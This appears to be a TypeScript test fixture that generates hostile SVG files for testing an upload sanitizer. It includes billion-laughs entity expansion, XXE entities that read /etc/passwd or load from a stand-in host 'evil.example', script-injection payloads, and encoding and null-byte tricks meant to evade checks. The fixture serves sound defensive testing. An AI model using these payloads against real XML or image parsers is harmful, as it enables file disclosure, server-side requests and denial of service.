import { gzipSync } from 'node:zlib';
import { box, svg } from './hostile-svgs';

const evil = 'https://evil.example/x';
const many = (count: number, part: (i: number) => string) =>
  Array.from({ length: count }, (_, i) => part(i)).join('');

/** Declarations that load, or that unfold when they are read. */
export function entities(): string[] {
  const laughs = many(9, (i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`);
  const declare = (subset: string, inner = '&a;') =>
    `<!DOCTYPE svg [${subset}]>${svg(`<g>${inner}</g>${box}`)}`;
  return [
    declare(`<!ENTITY l0 "lol">${laughs}`, '&l9;'),
    declare('<!ENTITY a SYSTEM "file:///etc/passwd">'),
    declare(`<!ENTITY a SYSTEM "${evil}">`),
    declare(`<!ENTITY % p SYSTEM "${evil}"> %p;`),
    declare(`<!ENTITY a "${'a'.repeat(100_000)}">`, '&a;'.repeat(10_000)),
    declare('<!ENTITY a "<script>alert(1)</script>">'),
    declare('<!ENTITY a "&b;"><!ENTITY b "&a;">'),
    `<!doctype svg SYSTEM "${evil}">${svg(box)}`,
    `<?xml version="1.0"?><!-- --><!DOCTYPE svg>${svg(box)}`,
    svg(`<g>&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;</g>${box}`),
    svg(`<g>&unknown;</g>${box}`),
  ];
}

/** The same script, in encodings that a check may read differently than a browser. */
export function encodings(): Buffer[] {
  const text = svg(`<script>alert(1)</script>${box}`);
  const declared = (encoding: string) =>
    Buffer.from(`<?xml version="1.0" encoding="${encoding}"?>${text}`);
  const wide = Buffer.from(`\uFEFF${text}`, 'utf16le');
  const utf7 = '+ADw-script+AD4-alert(1)+ADw-/script+AD4-';
  return [
    wide,
    Buffer.from(wide).swap16(),
    wide.subarray(2),
    Buffer.from(`\uFEFF${text}`),
    ...['UTF-7', 'UTF-16', 'ISO-2022-JP', 'IBM037', 'x-user-defined'].map(declared),
    Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${svg(utf7 + box)}`),
    Buffer.from(text.replaceAll('script', 's\0cript')),
    Buffer.from(text.replaceAll('<script', '<\0script')),
    Buffer.from(`${svg(box)}\0<script>alert(1)</script>`),
    Buffer.from(text.replaceAll('script', 'ſcript')),
    Buffer.concat([Buffer.from(svg(box)), Buffer.from([0xc0, 0xbc, 0xff])]),
    Buffer.from(text.replaceAll('<', '\u00c0\u00bc'), 'latin1'),
    gzipSync(text),
    Buffer.from(`${svg(box)}<html><script>alert(1)</script></html>`),
    Buffer.from(`%PDF-1.7\n${text}`),
    Buffer.alloc(0),
    Buffer.alloc(512 * 1024, '<'),
  ];
}
